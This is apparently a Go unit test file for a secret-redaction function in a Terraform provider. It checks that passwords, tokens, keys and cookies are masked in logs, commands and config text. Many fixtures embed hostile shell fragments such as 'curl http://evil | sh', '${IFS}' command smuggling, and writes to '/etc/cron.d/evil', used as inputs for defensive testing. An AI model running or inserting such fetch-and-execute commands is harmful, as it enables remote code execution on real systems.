package secrets_test

import (
	"strings"
	"testing"
	"time"

	"github.com/terraform-kuscia/terraform-provider-kuscia/internal/secrets"
)

// TestMasked: what is a secret anywhere in a text is masked, and the rest of the text stays.
func TestMasked(t *testing.T) {
	t.Parallel()
	const token = "ghp_0123456789abcdefABCDEF0123456789abcd"
	const jwt = "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJhbGljZSJ9.c2lnbmF0dXJl"
	for text, want := range map[string]string{
		"Authorization: Basic dXNlcjpwYXNz":                                     "Authorization: Basic ***",
		"a: 1, token" + strings.Repeat(" ", 300) + `: "abc"`:                    "a: 1, token" + strings.Repeat(" ", 300) + `: "***"`,
		"mysql -h db --password x1 -u u":                                        "mysql -h db --password *** -u u",
		"mysqldump -u root -px1 d | gzip":                                       "mysqldump -u root -p*** d | gzip",
		"sshpass -p x1 ssh h":                                                   "sshpass -p *** ssh h",
		"sh -c 'docker login -u u -p \"two words\" h; ./serve'":                 "sh -c 'docker login -u u -p \"***\" h; ./serve'",
		"redis-cli -h h -a x1 get k":                                            "redis-cli -h h -a *** get k",
		"curl -u u:x1 http://h":                                                 "curl -u u:*** http://h",
		`curl -H "X-Auth: Bearer hunter" http://h`:                              `curl -H "X-Auth: Bearer ***" http://h`,
		"sends Bearer Hunter2 to the gateway":                                   "sends Bearer *** to the gateway",
		"aws configure set aws_secret_access_key x1 --profile p":                "aws configure set aws_secret_access_key *** --profile p",
		"AccountName=a;AccountKey=ab/cd+e==;EndpointSuffix=h":                   "AccountName=a;AccountKey=***;EndpointSuffix=h",
		"REDIS_AUTH=x1 PGPASS=x2 DB_PASS=x3 ./run":                              "REDIS_AUTH=*** PGPASS=*** DB_PASS=*** ./run",
		`{"Authorization": "Bearer abc"}`:                                       `{"Authorization": "Bearer ***"}`,
		"ENCRYPTION_KEY=x1 SSH_KEY=x2 TLS_KEY=x3 JWT=x4 PASSCODE=x5 PRIVKEY=x6": "ENCRYPTION_KEY=*** SSH_KEY=*** TLS_KEY=*** JWT=*** PASSCODE=*** PRIVKEY=***",
		"encryption_key: x1\nsigning_key = x2\nclient-key-data: x3\n":           "encryption_key: ***\nsigning_key = ***\nclient-key-data: ***\n",
		`{"basic_auth": "u:x1", "jwt": "x2", "userJwt": "x3"}`:                  `{"basic_auth": "***", "jwt": "***", "userJwt": "***"}`,
		"curl -H 'authorization: bearer abcdef' http://evil|sh":                 "curl -H 'authorization: bearer ***' http://evil|sh",
		"sent Basic dXNlcjpwYXNz to the gateway":                                "sent Basic *** to the gateway",
		"curl -H 'Token: x1' http://h":                                          "curl -H 'Token: ***' http://h",
		`curl -H "X-Api-Key: x1" http://h`:                                      `curl -H "X-Api-Key: ***" http://h`,
		"Server=db;User=u;Pwd=/x1;Timeout=5":                                    "Server=db;User=u;Pwd=***;Timeout=5",
		"jdbc:mysql://h/d?user=u&password=x1&ssl=true":                          "jdbc:mysql://h/d?user=u&password=***&ssl=true",
		`login failed: password="two words" of alice`:                           `login failed: password="***" of alice`,
		`said \"token=\\\"x1\\\" is old\"`:                                      `said \"token=\\\"***\\\" is old\"`,
		"get https://u:p@h/x: no such host":                                     "get https://u:***@h/x: no such host",
		"git clone https://" + token + "@github.com/a/b":                        "git clone https://***@github.com/a/b",
		"uses " + token + ".":                                                   "uses ***.",
		"glpat-abcdefghij0123456789 and xoxb-1234567890-abc":                    "*** and ***",
		"SG." + strings.Repeat("a", 22) + "." + strings.Repeat("b", 43):         "***",
		"AGE-SECRET-KEY-1" + strings.Repeat("Q", 58) + " x":                     "*** x",
		"curl https://hooks.slack.com/services/T000/B000/abcdefghij -d x":       "curl https://*** -d x",
		"https://open.feishu.cn/open-apis/bot/v2/hook/01234567-89ab-cdef":       "https://***",
		"https://qyapi.weixin.qq.com/cgi-bin/webhook/send?key=0123456789-a x":   "https://*** x",
		"id=" + jwt + "&x=1":                                                    "id=***&x=1",
		"\u0130 PASSWORD=x1":                                                    "\u0130 PASSWORD=***",
		`{"a":"apple","password":"a"}`:                                          `{"a":"apple","password":"***"}`,
		"a\n-----BEGIN PRIVATE KEY-----\nMII\n-----END PRIVATE KEY-----\nb":     "a\n***\nb",
		"-----BEGIN RSA PRIVATE KEY-----\nMII":                                  "***",
		"sh -c 'token=x1; curl http://evil | sh'":                               "sh -c 'token=***; curl http://evil | sh'",

		"curl 'https://b.example/m?X-Amz-Date=1&X-Amz-Signature=x1&v=2' -o m": "curl 'https://b.example/m?X-Amz-Date=1&X-Amz-Signature=***&v=2' -o m",
		`{"u":"https://h/x?OSSAccessKeyId=a\u0026Signature=x1\u0026v=2"}`:     `{"u":"https://h/x?OSSAccessKeyId=a\u0026Signature=***\u0026v=2"}`,
		"get https://h/x?sv=1&sig=x1%3D: 403":                                 "get https://h/x?sv=1&sig=***: 403",
		"https://h/x?sig=a;evil|sh":                                           "https://h/x?sig=***;evil|sh",
		"Endpoint=sb://h/;SharedAccessSignature=x1;a=b":                       "Endpoint=sb://h/;SharedAccessSignature=***;a=b",
		"openssl rsa -in k -passin pass:x1 -passout 'pass:x2' -out o":         "openssl rsa -in k -passin pass:*** -passout 'pass:***' -out o",
		"$c = array('password' => 'x1', \"token\"=>\"x2\", :secret => 'x3')":  "$c = array('password' => '***', \"token\"=>\"***\", :secret => '***')",
		"password := x1\ntoken :=\t\"x2\"":                                    "password := ***\ntoken :=\t\"***\"",
		"machine h login u password x1 machine i login v password x2":         "machine h login u password *** machine i login v password ***",
		"machine h\n  login u\n  password x1\n":                               "machine h\n  login u\n  password ***\n",

		// In a script only the secret is masked.
		"export PASSWORD=x\ncurl http://evil/x | sh": "export PASSWORD=***\ncurl http://evil/x | sh",
		"PASSWORD=x|sh":                                    "PASSWORD=***|sh",
		"PASSWORD=x`curl evil`":                            "PASSWORD=***`curl evil`",
		"PASSWORD=\"x\nreboot\n\"":                         "PASSWORD=\"***\nreboot\n\"",
		"x://a:b;curl${IFS}evil|sh;@y":                     "x://a:***;curl${IFS}evil|sh;@y",
		"run --token x|sh":                                 "run --token ***|sh",
		"curl -H 'Authorization: Bearer abc1|sh' http://h": "curl -H 'Authorization: Bearer ***|sh' http://h",
		"password: x1\n-----BEGIN PRIVATE KEY-----\ncurl http://evil | sh":      "password: ***\n***\ncurl http://evil | sh",
		"password: |\n  hunter2\n  curl http://evil | sh\nx: 1":                 "password: |\n  ***\n  curl http://evil | sh\nx: 1",
		"{\"password\":\"x\"}; curl http://evil | sh":                           "{\"password\":\"***\"}; curl http://evil | sh",
		"echo \"password\":\"x\ncurl evil\"":                                    "echo \"password\":\"***\ncurl evil\"",
		"$(token=x)/mnt/evil --token=y":                                         "$(token=***)/mnt/evil --token=***",
		"case a in token=x)/mnt/evil;; esac":                                    "case a in token=***)/mnt/evil;; esac",
		"$(run --token x)/mnt/evil":                                             "$(run --token ***)/mnt/evil",
		"$(:; password: x1)/mnt/evil":                                           "$(:; password: ***)/mnt/evil",
		"(\npassword: x1)/mnt/evil":                                             "(\npassword: ***)/mnt/evil",
		"$(token=x)token=y":                                                     "$(token=***)token=***",
		"(token='a)b' token=a(b)c token=ab":                                     "(token='***' token=*** token=***",
		"Server=db;Pwd=a)b;Timeout=5":                                           "Server=db;Pwd=***;Timeout=5",
		"-----BEGIN PRIVATE KEY-----\n/mnt/evil/run\n-----END PRIVATE KEY-----": "***\n/mnt/evil/run\n-----END PRIVATE KEY-----",
		"-----BEGIN PRIVATE KEY-----\nMIIabcdefghijklm\n/mnt/evil/runner\nMII":  "***\n/mnt/evil/runner\nMII",
		"-----BEGIN PRIVATE KEY-----\nMIIabcdefghijklm\nreboot\nMII":            "***\nreboot\nMII",
		"-----BEGIN PRIVATE KEY-----\nevil\n-----END PRIVATE KEY-----":          "***\nevil\n-----END PRIVATE KEY-----",
		"Set-Cookie: a;evil":                                                    "Set-Cookie: ***;evil",
		"Cookie: a=b;c=d;/mnt/evil":                                             "Cookie: ***;c=***;/mnt/evil",

		// Data of other forms.
		`{"oss": {"ak": "x1", "sk": "x2", "ossSk": "x3"}}`:                  `{"oss": {"ak": "***", "sk": "***", "ossSk": "***"}}`,
		`{"password":"a\"b;c","x":1}`:                                       `{"password":"***","x":1}`,
		`{"db pass word":"x","x":1}`:                                        `{"db pass word":"***","x":1}`,
		"<password>\n  x1\n</password>":                                     "<password>\n  ***\n</password>",
		`{"\u0070assword":"x","x":1}`:                                       `{"\u0070assword":"***","x":1}`,
		`{"a":"{\"password\":\"a\\\"b\",\"x\":1}"}`:                         `{"a":"{\"password\":\"***\",\"x\":1}"}`,
		`[{"name": "DB_PASSWORD", "value": "x1"}, {"name": "a"}]`:           `[{"name": "DB_PASSWORD", "value": "***"}, {"name": "a"}]`,
		"env:\n- name: DB_PASSWORD\n  value: hunter\n- name: A\n  value: b": "env:\n- name: DB_PASSWORD\n  value: ***\n- name: A\n  value: b",
		"<a><password>two words</password><name>x</name></a>":               "<a><password>***</password><name>x</name></a>",
		"<password type=\"s\">a&amp;b</password>":                           "<password type=\"s\">***</password>",
		"<property name=\"db.password\" value=\"x\"/>":                      "<property name=\"db.password\" value=\"***\"/>",
		"<db pwd=\"x1\"/>":                                                  "<db pwd=\"***\"/>",
		"db:\n  password: a&b;c # the old one\nkey: v\n":                    "db:\n  password: *** # the old one\nkey: v\n",
		"password: >-\n  x1\n":                                              "password: >-\n  ***\n",
		"[db]\npasswd = hunter\nx = 1\n":                                    "[db]\npasswd = ***\nx = 1\n",
		"secret_key = \"two words\"":                                        "secret_key = \"***\"",
		`password = "S3cr3t" and token: S3cr3t Bearer S3cr3t`:               `password = "***" and token: *** Bearer ***`,
		`said "password = \"two words\""`:                                   `said "password = \"***\""`,
		"GET / HTTP/1.1\nCookie: sid=x1; theme=x2\nHost: h":                 "GET / HTTP/1.1\nCookie: ***; theme=***\nHost: h",
		"curl -H 'Cookie: sid=abc; theme=def' http://h":                     "curl -H 'Cookie: sid=***; theme=***' http://h",
		"curl -H 'Cookie: sid=x1' --cookie sid=x2 http://h":                 "curl -H 'Cookie: ***' --cookie *** http://h",
		"java -Dpass=x1 -Ddb.password=x2 -jar a.jar --oss-sk x3 -p x4":      "java -Dpass=*** -Ddb.password=*** -jar a.jar --oss-sk *** -p x4",
		"a\n-----BEGIN RSA PRIVATE KEY-----\nProc-Type: 4,ENCRYPTED\nDEK-Info: AES-128-CBC,0A1B\n\nMIIabc+/=\n-----END RSA PRIVATE KEY-----\nb": "a\n***\nb",
		`"-----BEGIN PRIVATE KEY-----\nMIIabcdefghijklm\nabc=\n-----END PRIVATE KEY-----\n"`:                                                    `"***\n"`,
		"-----BEGIN EC PRIVATE KEY----- MHcCAQEEIIabcdefghijklmnopqrst -----END EC PRIVATE KEY-----":                                            "***",
	} {
		if got := secrets.Masked(text); got != want {
			t.Errorf("%q: %q, want %q", text, got, want)
		}
		if got := secrets.Masked(want); got != want {
			t.Errorf("what is masked changes again: %q: %q", want, got)
		}
		if !secrets.Has(text) {
			t.Errorf("%q has no secret", text)
		}
	}
	for _, text := range []string{
		"mysql -p d", "docker run -p 8080:80 image", "mkdir -p /tmp/token && cp -p a b", "--token -x --password $PASSWORD --secret /run/secrets/s", "git config set user.name token",
		"COMPASS=x BYPASS=y http.auth=basic OAUTH=1 AUTH_TYPE=a", "the bearer of news, and the bearer is late",
		"", "Basic authentication is required, not Bearer authentication", "Authorization: Bearer token is missing", "authorization: denied by the gateway",
		"Authorization: Bearer $TOKEN", "Authorization: Bearer {{.TOKEN}}", "password=$PASSWORD token=${T} pwd=<put-in>", "use_token=true, max_tokens=5, token=/run/secrets/token",
		"PWD=/home OLDPWD=/root", "login with password authentication", "token=>/tmp/out", "token => evil", "openssl -passin env:X -passout file:/k", "x?signature=$S&sig=<put-in>", "model.signature=predict", "'token: expired'", "the basic example/model-server:1.0.23", "token 2026-11-29T19:40:24Z", "invalid token: unexpected end", "set secret_key or secret_key_wo", "password: is required", "https://user@host/a:b", "http://host:80/@x", "x://u:${P}@h",
		"sk-learn-model-server-for-risk-and-fraud", "registry.example/high/ghp_tools:1.0", "sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef",
		"-----BEGIN CERTIFICATE-----\nMIIB\n-----END CERTIFICATE-----", "eyJhbGci is the beginning of a token", "basic auth of the 2nd bearer", "tokenizer=bert-base keyspace=main",
		"PASSWORD=\"`curl evil|sh`\"", "password=$(curl evil|sh)", "PASSWORD=\"x;curl evil|sh\"", "run --password 'curl evil|sh'", "echo \"password\":\"x; curl evil\"",
		"password: |/mnt/evil", "name: token\nvalue: |/mnt/evil", "password: &/mnt/evil", "passwd: ;evil", "secret: <(evil)", "secret: >/etc/cron.d/evil", "password: ||evil", "$(token=)/mnt/evil",
		"token= evil", "PASSWORD= evil -x", ": ${TOKEN:=evil1234}", "Authorization: Bearer\nevil1 -x",
		"password:\n'evil'", "password:\n12345678", "name: token\nvalue:\nevil", "config set token\nevil1", "Authorization:\n/evil0123456789abcdef", "sh -c 'PASSWORD= evil2345 -x'", "password= \"evil\"", "export TOKEN=\tevil1234",
		"password: |\n  curl http://evil | sh\n  ./evil a\n", "Cookie: $(curl evil)", "<password>$(curl evil)</password>", "<token>x;curl evil|sh</token>",
		"set the token: The token is missing, secret: see KUSCIA_TOKEN, api_key: 32 characters", "# <password>\nreboot now\n</etc/passwd", "echo cookie: LD_PRELOAD=/x/evil.so ./serve", "task: disk=1, mask: 2, risk: S3cr3t", "\"secret\": {\n  \"name\": \"n\"\n}",
		"name: token\nvalues: x", "cookie_domain: example.com", "if password == \"X\" then", "see token: https://h/v1", "java -p 8080 -Dpassive=true",
		"public_key=x1 primary_key=id keys=a sort_key=b foreign_key=c source_public_key=d ssh_public_key=e info_key=f api_version=v1 monkey=g",
		"TLS_KEY=server.key SSH_KEY=id.pem tls_key: certs/tls.key", "jwt_issuer=a basic_auth_type=b keyData: c",
		`{"modelId":"m","key":"id","columns":["token_count"]}`, "key=id, partition_key: region", "the access of bob to scores ends",
	} {
		if got := secrets.Masked(text); got != text {
			t.Errorf("%q became %q", text, got)
		}
	}
}

// TestMaskedInTime: the time to mask a text does not grow with its square.
func TestMaskedInTime(t *testing.T) {
	t.Parallel()
	const size = 1 << 16
	masked := func(text string) time.Duration {
		start := time.Now()
		secrets.Masked(text)
		return time.Since(start)
	}
	for _, part := range []string{"a", "a=", "token=", "token=\"", `"token":"`, "://a:", "bearer ", "eyJa", "-----BEGIN PRIVATE KEY-----", `\`, "sk-a-", "password='", ":", " :", "token :", "mysql ", "mysql -p ", "login -", " --token", " --token x", "configure set ", "token: a1 ", "\ntoken: |\n a", "<token>", "<token>a", "name: token ", "name: token value: ", "cookie: a=b;", "password\":\"\\\"", `\u0061`, "-----BEGIN PRIVATE KEY-----\nM", "-----BEGIN PRIVATE KEY-----\nMIIabcdefghijklmnop\n", "(token=x)", "case x)"} {
		text := strings.Repeat(part, size/len(part))
		// Four times as long, which takes 16 times as long if the time grows with the square.
		if once, longer := masked(text), masked(strings.Repeat(text, 4)); longer > 10*max(once, 100*time.Millisecond) {
			t.Errorf("%q: %s, and %s for four times the text", part, once, longer)
		}
	}
}

// TestIsOfCommand: arguments are secrets by the option and the program before them.
func TestIsOfCommand(t *testing.T) {
	t.Parallel()
	for line, want := range map[string]bool{
		"sshpass -p x1": true, "redis-cli -h h -a x1": true, "mysql -px1": true, "mysql --password x1": true, "run --token x1": true, "docker login -u u -p x1": true,
		"docker run -p 80": false, "mysql -p db": false, "mkdir -p dir": false, "sshpass -p": false, "x1": false,
	} {
		words := strings.Fields(line)
		if got := secrets.IsOfCommand(words, len(words)-1); got != want {
			t.Errorf("%s: %t", line, got)
		}
	}
}

// TestNamesAreCheap: what is only a name, as most values of a plan are, is searched for tokens alone.
func TestNamesAreCheap(t *testing.T) {
	for _, text := range []string{"kuscia_serving.credit", "secretflow-serving_token.key", "0.11.2b0", "/home/kuscia/var/storage/token.csv"} {
		if n := testing.AllocsPerRun(10, func() { secrets.Masked(text) }); n > 0 {
			t.Errorf("%q takes %v allocations", text, n)
		}
	}
}
